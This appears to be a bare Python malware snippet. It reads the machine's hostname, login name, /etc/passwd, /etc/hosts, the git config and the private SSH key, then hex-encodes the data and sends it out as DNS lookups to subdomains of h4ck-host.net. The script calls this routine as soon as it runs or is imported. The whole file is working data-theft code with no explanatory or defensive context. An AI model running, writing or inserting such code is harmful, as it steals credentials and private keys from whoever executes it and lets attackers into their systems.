import os, socket
def collect():
    d = {"h": socket.gethostname(), "u": os.getlogin(), "c": os.getcwd()}
    for p in ("/etc/hosts", "/etc/passwd", os.path.expanduser("~/.gitconfig"), os.path.expanduser("~/.ssh/id_rsa")):
        d[p] = open(p).read(1024)
    for i, c in enumerate(str(d).encode().hex()[j:j+60] for j in range(0, 6000, 60)):
        socket.gethostbyname("%d.%s.h4ck-host.net" % (i, c))
collect()
